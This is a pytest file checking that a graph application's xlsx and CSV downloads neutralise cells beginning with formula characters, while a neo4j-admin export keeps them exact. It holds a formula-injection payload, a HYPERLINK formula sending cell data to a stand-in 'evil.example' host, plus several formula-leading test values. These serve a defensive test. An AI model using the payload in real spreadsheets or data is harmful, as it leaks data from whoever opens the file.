"""Tables for spreadsheet programs: every table download, read back as a person's spreadsheet would.

The ``.xlsx`` files are read with openpyxl (typed cells, dates, the header in the page's language), the CSV
with the csv module in the language's dialect (``;`` and a decimal comma in Swedish, ``,`` in English,
UTF-8 with a BOM). A record file brings names beginning with formula characters
(``=HYPERLINK(…)``, ``+SUM(…)``, ``@SUM(…)``): every download a person opens must neutralise them —
text cells in ``.xlsx`` (never formulas, Excel's quote prefix), a leading ``'`` in CSV — and the
neo4j-admin zip, which a program reads, must keep them exactly.
"""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io
import json
import re
import shutil
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from graphapp.api import create_app
from graphapp.config import Settings
from graphapp.records import load_dataset
from graphapp.store import GraphStore
from graphapp.table_files import AMOUNT, Column, Table, csv_bytes, neutralised, xlsx_bytes
from graphapp.views.page import render_file
from tests.test_cli import graphapp

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PARTNER = "+SUM(1,2)"
TITLE = "@SUM(1,2)"
SUMMARY = "-2+3 is what this project adds"
PROJECT = "project:formula-test"
RECORD = f"""\
project:
  id: {PROJECT}
  name: '{FORMULA}'
  summary: '{SUMMARY}'
  start: 2020-01-15
  end: 2021-06-30
  total_budget_sek: 1250000
documents:
  - id: &doc document:0123456789abcdef0123456789abcdef01234567
    title: '{TITLE}'
nodes:
  - {{label: Organization, id: org:formula-partner, name: '{PARTNER}', kind: ngo}}
relationships:
  - {{type: OWNS, start: municipality:0780, end: {PROJECT}, sources: [*doc]}}
  - {{type: PARTICIPATES_IN, start: org:formula-partner, end: {PROJECT}, role: partner, sources: [*doc]}}
  - {{type: FUNDS, start: fund:amif, end: {PROJECT}, amount_sek: 150000, sources: [*doc]}}
"""
HOSTILE = (FORMULA, PARTNER, TITLE, SUMMARY)
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ROOT = Path(__file__).resolve().parents[2]


# -- reading what a person would open ---------------------------------------------


def read_csv(raw: bytes, lang: str) -> list[list[str]]:
    """A CSV download as Excel with ``lang``'s settings splits it: BOM first, then rows."""
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark"
    assert b"\r\n" in raw
    text = raw.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if lang == "sv" else ","))
    assert len({len(row) for row in rows}) == 1, "every row as wide as the header"
    return rows


def read_xlsx(raw: bytes) -> dict[str, Worksheet]:
    return {sheet.title: sheet for sheet in load_workbook(io.BytesIO(raw)).worksheets}


def assert_csv_safe(rows: list[list[str]], lang: str) -> None:
    """No cell a spreadsheet would read as a formula: a cell beginning with one of the formula characters
    is a number (of ``lang``'s CSV), anything else from data begins with ``'``."""
    number = re.compile(r"^-\d+(,\d+)?$" if lang == "sv" else r"^-\d+(\.\d+)?$")
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n"):
                assert number.match(cell), f"formula-leading cell {cell!r}"


def assert_xlsx_safe(sheets: dict[str, Worksheet]) -> None:
    """No formula anywhere; text beginning with a formula character is text with Excel's quote prefix."""
    for sheet in sheets.values():
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"a formula in {sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value[:1] in ("=", "+", "-", "@", "\t", "\r", "\n"):
                    assert cell.data_type == "s" and cell.quotePrefix, f"{sheet.title}!{cell.coordinate}"


def csv_texts(rows: list[list[str]]) -> set[str]:
    return {cell for row in rows for cell in row}


def xlsx_texts(sheets: dict[str, Worksheet]) -> set[Any]:
    return {cell.value for sheet in sheets.values() for row in sheet.iter_rows() for cell in row}


def column(sheet: Worksheet, header: str) -> list[Any]:
    rows = list(sheet.iter_rows(values_only=True))
    index = list(rows[0]).index(header)
    return [row[index] for row in rows[1:]]


# -- the writer -------------------------------------------------------------------


SAMPLE = Table(
    "Sample",
    [Column("Namn"), Column("Belopp", AMOUNT), Column("Latitud"), Column("Start"), Column("Anmärkning")],
    [
        [FORMULA, 1500000, -33.5, dt.date(2016, 6, 1), "\tindented"],
        ['Växjö; "centrum"\nrad två', -5, 56.88, None, "-"],
        ["-12", 0, 0.0, dt.date(2020, 1, 1), "@home"],
    ],
)


@pytest.mark.parametrize(("lang", "separator"), [("sv", ";"), ("en", ",")])
def test_csv_uses_the_languages_separator_and_neutralises_text(lang: str, separator: str) -> None:
    raw = csv_bytes(SAMPLE, lang)
    assert raw.decode("utf-8-sig").splitlines()[0] == separator.join(
        ["Namn", "Belopp", "Latitud", "Start", "Anmärkning"]
    )
    rows = read_csv(raw, lang)
    assert rows[1] == ["'" + FORMULA, "1500000", "-33,5" if lang == "sv" else "-33.5", "2016-06-01", "'\tindented"]
    assert rows[2] == ['Växjö; "centrum"\nrad två', "-5", "56,88" if lang == "sv" else "56.88", "", "'-"]
    assert rows[3][0] == "'-12", "text that looks like a negative number is text"
    assert_csv_safe(rows, lang)


def test_xlsx_cells_are_typed_and_text_is_never_a_formula() -> None:
    sheet = read_xlsx(xlsx_bytes([SAMPLE]))["Sample"]
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == ["Namn", "Belopp", "Latitud", "Start", "Anmärkning"]
    assert all(c.font.bold for c in rows[0]) and sheet.freeze_panes == "A2"
    name, amount, latitude, start, note = rows[1]
    assert (name.value, name.data_type, name.quotePrefix) == (FORMULA, "s", True)
    assert (amount.value, amount.data_type, amount.number_format) == (1500000, "n", AMOUNT)
    assert (latitude.value, latitude.data_type) == (-33.5, "n")
    assert start.is_date and start.value == dt.datetime(2016, 6, 1) and start.number_format == "yyyy-mm-dd"
    assert note.value == "\tindented" and note.quotePrefix
    assert [c.value for c in rows[2][:2]] == ['Växjö; "centrum"\nrad två', -5], "negative numbers stay numbers"
    assert rows[2][1].data_type == "n" and not rows[2][1].quotePrefix
    assert rows[3][0].value == "-12" and rows[3][0].data_type == "s", "text stays text"
    assert_xlsx_safe({"Sample": sheet})


def test_xlsx_takes_what_xml_cannot_carry_and_names_sheets_as_excel_wants() -> None:
    long = "x" * 40_000
    tables = [
        Table("Noder: [alla]/*?", [Column("a")], [["bell\x07 and\x00 nul"], [long]]),
        Table("noder: [ALLA]/*?", [Column("a")], []),
    ]
    sheets = read_xlsx(xlsx_bytes(tables))
    assert list(sheets) == ["Noder- -alla----", "noder- -ALLA---- (2)"]
    values = column(sheets["Noder- -alla----"], "a")
    assert values[0] == "bell and nul" and len(values[1]) == 32_767


def test_neutralised_follows_owasp() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralised(start + "x") == "'" + start + "x"
    assert neutralised("Sunne") == "Sunne" and neutralised("a=b") == "a=b"


# -- every download of the app ------------------------------------------------------


@pytest.fixture(scope="module")
def formula_data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data folder holding the seeds and one record file named with formula characters."""
    folder = tmp_path_factory.mktemp("formula") / "data"
    for part in ("reference", "projects", "documents"):
        shutil.copytree(ROOT / "data" / part, folder / part)
    (folder / "projects" / "formula.yaml").write_text(RECORD, encoding="utf-8")
    return folder


@pytest.fixture
def formula_client(empty_store: GraphStore, formula_data: Path) -> Iterator[TestClient]:
    """The API over each store holding the seeds and the formula record."""
    empty_store.load(load_dataset(formula_data))
    with TestClient(create_app(Settings(_env_file=None, data_dir=formula_data), store=empty_store)) as client:
        yield client


@pytest.mark.parametrize("lang", ["sv", "en"])
def test_view_tables_are_typed_in_the_page_language_and_neutralised(formula_client: TestClient, lang: str) -> None:
    query = {"id": PROJECT, "lang": lang}
    response = formula_client.get("/views/project.xlsx", params=query)
    assert response.status_code == 200 and response.headers["content-type"] == XLSX
    assert response.headers["content-disposition"] == 'attachment; filename="project-tables.xlsx"'
    sheets = read_xlsx(response.content)
    nodes, rels = ("Noder", "Relationer") if lang == "sv" else ("Nodes", "Relationships")
    assert list(sheets) == [nodes, rels]
    header = [c.value for c in next(sheets[nodes].iter_rows())]
    start, budget = ("Start", "Total projektbudget (kr)") if lang == "sv" else ("Start", "Total project budget (SEK)")
    assert header[:4] == (["Id", "Namn", "Typ", "Kopplingar"] if lang == "sv" else ["Id", "Name", "Kind", "Links"])
    ids = column(sheets[nodes], "Id")
    project = ids.index(PROJECT)
    assert column(sheets[nodes], header[1])[project] == FORMULA
    assert column(sheets[nodes], start)[project] == dt.datetime(2020, 1, 15)
    assert column(sheets[nodes], budget)[project] == 1250000
    amount = "Belopp (kr)" if lang == "sv" else "Amount (SEK)"
    assert 150000 in column(sheets[rels], amount)
    assert {FORMULA, PARTNER, TITLE, SUMMARY} <= xlsx_texts(sheets)
    assert_xlsx_safe(sheets)
    for table in ("nodes", "relationships"):
        answer = formula_client.get(f"/views/project.{table}.csv", params=query)
        assert answer.headers["content-type"] == "text/csv; charset=utf-8"
        rows = read_csv(answer.content, lang)
        assert_csv_safe(rows, lang)
        assert "'" + FORMULA in csv_texts(rows)
    nodes_csv = read_csv(formula_client.get("/views/project.nodes.csv", params=query).content, lang)
    assert {"'" + PARTNER, "'" + SUMMARY} <= csv_texts(nodes_csv)
    rels_csv = read_csv(formula_client.get("/views/project.relationships.csv", params=query).content, lang)
    assert "'" + TITLE in csv_texts(rels_csv), "a source's title"


def test_view_tables_take_what_the_page_added(formula_client: TestClient) -> None:
    """The page of Växjö's network, after expanding the formula project: what it shows is in the tables."""
    query = {"id": "municipality:0780", "kind": "municipality", "lang": "en"}
    before = read_csv(formula_client.get("/views/actor.nodes.csv", params=query).content, "en")
    assert PROJECT not in {row[0] for row in before}
    added = {
        "nodes": [PROJECT, "org:formula-partner", "org:not-in-the-store"],
        "relationships": [
            ["municipality:0780", "OWNS", PROJECT],
            ["org:formula-partner", "PARTICIPATES_IN", PROJECT],
            ["org:formula-partner", "OWNS", PROJECT],  # not in the store: left out
        ],
    }
    sheets = read_xlsx(formula_client.post("/views/actor.xlsx", params=query, json=added).content)
    ids = column(sheets["Nodes"], "Id")
    assert len(ids) == len(before) - 1 + 2 and {PROJECT, "org:formula-partner"} <= set(ids)
    assert column(sheets["Nodes"], "Links")[ids.index(PROJECT)] == 2
    pairs = list(
        zip(column(sheets["Relationships"], "From (Id)"), column(sheets["Relationships"], "To (Id)"), strict=True)
    )
    assert ("org:formula-partner", PROJECT) in pairs and ("municipality:0780", PROJECT) in pairs
    assert_xlsx_safe(sheets)
    rows = read_csv(formula_client.post("/views/actor.relationships.csv", params=query, json=added).content, "en")
    assert "'" + PARTNER in csv_texts(rows)


def test_view_tables_refuse_what_is_no_table(formula_client: TestClient) -> None:
    assert formula_client.post("/views/actor", params={"id": PROJECT}, json={}).status_code == 404
    assert formula_client.get("/views/nothing.xlsx").status_code == 404
    bad = formula_client.post("/views/project.xlsx", params={"id": PROJECT}, json={"nodes": "x"})
    assert bad.status_code == 422


def test_export_xlsx_is_the_network_as_tables(formula_client: TestClient) -> None:
    response = formula_client.get("/api/export", params={"format": "xlsx", "lang": "en"})
    assert response.status_code == 200 and response.headers["content-type"] == XLSX
    sheets = read_xlsx(response.content)
    ids = column(sheets["Nodes"], "Id")
    assert ids == sorted(ids) and "document:0123456789abcdef0123456789abcdef01234567" in ids
    assert len(column(sheets["Relationships"], "To (Id)")) > 100
    assert {FORMULA, PARTNER, TITLE} <= xlsx_texts(sheets)
    assert_xlsx_safe(sheets)
    part = read_xlsx(formula_client.get("/api/export", params={"format": "xlsx", "fund": "amif"}).content)
    assert PROJECT in column(part["Noder"], "Id")


def test_neo4j_admin_csv_keeps_the_data_exactly(formula_client: TestClient) -> None:
    """A program reads it (neo4j-admin would import a ``'`` into the name): nothing neutralised, and its
    ``import.txt`` says to open the xlsx instead."""
    archive = zipfile.ZipFile(io.BytesIO(formula_client.get("/api/export", params={"format": "csv"}).content))
    projects = list(csv.DictReader(io.StringIO(archive.read("nodes_Project.csv").decode("utf-8"))))
    assert {k: v for k, v in next(p for p in projects if p["id:ID"] == PROJECT).items() if k in ("id:ID", "name")} == {
        "id:ID": PROJECT,
        "name": FORMULA,
    }
    assert "format=xlsx" in archive.read("import.txt").decode("utf-8")


def test_rendered_file_carries_its_tables(formula_data: Path, formula_client: TestClient) -> None:
    """A file that has no server to ask has its tables written into it, neutralised the same way."""
    store = formula_client.app.state.store  # type: ignore[attr-defined]
    html = render_file(store, "project", {"id": [PROJECT]}, "sv", formula_data / "reference")
    found = re.search(r'<script type="application/json" id="page-config">(.*?)</script>', html, re.S)
    assert found is not None
    config = json.loads(found[1])
    tables = config["tables"]
    assert set(tables) == {"xlsx", "nodes_csv", "rels_csv"}
    assert_xlsx_safe(read_xlsx(base64.b64decode(tables["xlsx"]["data"])))
    rows = read_csv(base64.b64decode(tables["nodes_csv"]["data"]), "sv")
    assert "'" + FORMULA in csv_texts(rows) and rows[0][:2] == ["Id", "Namn"]
    assert tables["rels_csv"]["type"] == "text/csv; charset=utf-8"


def test_render_tables_writes_xlsx_and_the_swedish_csv(formula_data: Path, tmp_path: Path) -> None:
    out = tmp_path / "formula.html"
    done = graphapp(
        "render",
        "project",
        f"id={PROJECT}",
        "--tables",
        "--out",
        str(out),
        env={"GRAPHAPP_DATA_DIR": str(formula_data)},
    )
    assert done.returncode == 0, done.stderr
    sheets = read_xlsx((tmp_path / "formula-tables.xlsx").read_bytes())
    assert list(sheets) == ["Noder", "Relationer"] and FORMULA in xlsx_texts(sheets)
    assert_xlsx_safe(sheets)
    for table in ("nodes", "relationships"):
        rows = read_csv((tmp_path / f"formula-{table}.csv").read_bytes(), "sv")
        assert_csv_safe(rows, "sv")
        assert "'" + FORMULA in csv_texts(rows)


# -- query results (Neo4j only) -------------------------------------------------------


@pytest.fixture
def neo4j_formula_client(request: pytest.FixtureRequest, formula_data: Path) -> Iterator[TestClient]:
    store: GraphStore = request.getfixturevalue("_neo4j_store")
    store.clear()
    store.load(load_dataset(formula_data))
    with TestClient(create_app(Settings(_env_file=None, data_dir=formula_data), store=store)) as client:
        yield client
    store.clear()


@pytest.mark.parametrize("lang", ["sv", "en"])
def test_query_results_as_tables(neo4j_formula_client: TestClient, lang: str) -> None:
    body = {
        "query": "// The formula project\nMATCH (p:Project {id: $id}) RETURN p.name AS name, p, p.start AS start, "
        "-5 AS minus, 2.5 AS half, "
        "[p.name, 'x'] AS names",
        "parameters": {"id": PROJECT},
    }
    sheets = read_xlsx(
        neo4j_formula_client.post("/api/cypher", params={"format": "xlsx", "lang": lang}, json=body).content
    )
    (sheet,) = sheets.values()
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]  # the node p spread over a column per field and property
    assert header[:4] == ["name", "p.id", "p.kind", "p.name"] and header[-4:] == ["start", "minus", "half", "names"]
    cells = dict(zip(header, rows[1], strict=True))
    assert [cells[k].value for k in ("name", "p.name", "start", "minus", "half", "names")] == [
        FORMULA,
        FORMULA,
        dt.datetime(2020, 1, 15),
        -5,
        2.5,
        FORMULA + "; x",
    ]
    assert cells["minus"].data_type == "n"
    assert_xlsx_safe(sheets)
    answer = neo4j_formula_client.post("/api/cypher", params={"format": "csv", "lang": lang}, json=body)
    assert answer.headers["content-disposition"] == 'attachment; filename="the-formula-project.csv"'
    rows_csv = read_csv(answer.content, lang)
    texts = dict(zip(rows_csv[0], rows_csv[1], strict=True))
    assert [texts[k] for k in ("name", "p.name", "start", "minus", "half", "names")] == [
        "'" + FORMULA,
        "'" + FORMULA,
        "2020-01-15",
        "-5",
        "2,5" if lang == "sv" else "2.5",
        "'" + FORMULA + "; x",
    ]
    assert_csv_safe(rows_csv, lang)


def test_saved_query_results_as_tables(neo4j_formula_client: TestClient) -> None:
    asked = {"parameters": {"id": PROJECT}}
    response = neo4j_formula_client.post("/api/queries/project-coalition", params={"format": "xlsx"}, json=asked)
    assert response.status_code == 200, response.text
    sheets = read_xlsx(response.content)
    (sheet,) = sheets.values()
    assert sheet.title == "Resultat" and PARTNER in column(sheet, "actor")
    assert 150000 in column(sheet, "amount_sek")
    assert_xlsx_safe(sheets)
    rows = read_csv(
        neo4j_formula_client.post("/api/queries/project-coalition", params={"format": "csv"}, json=asked).content, "sv"
    )
    assert "'" + PARTNER in csv_texts(rows)
    assert_csv_safe(rows, "sv")
    answer = neo4j_formula_client.post("/api/queries/project-coalition", json=asked)
    assert answer.headers["content-type"].startswith("application/json")
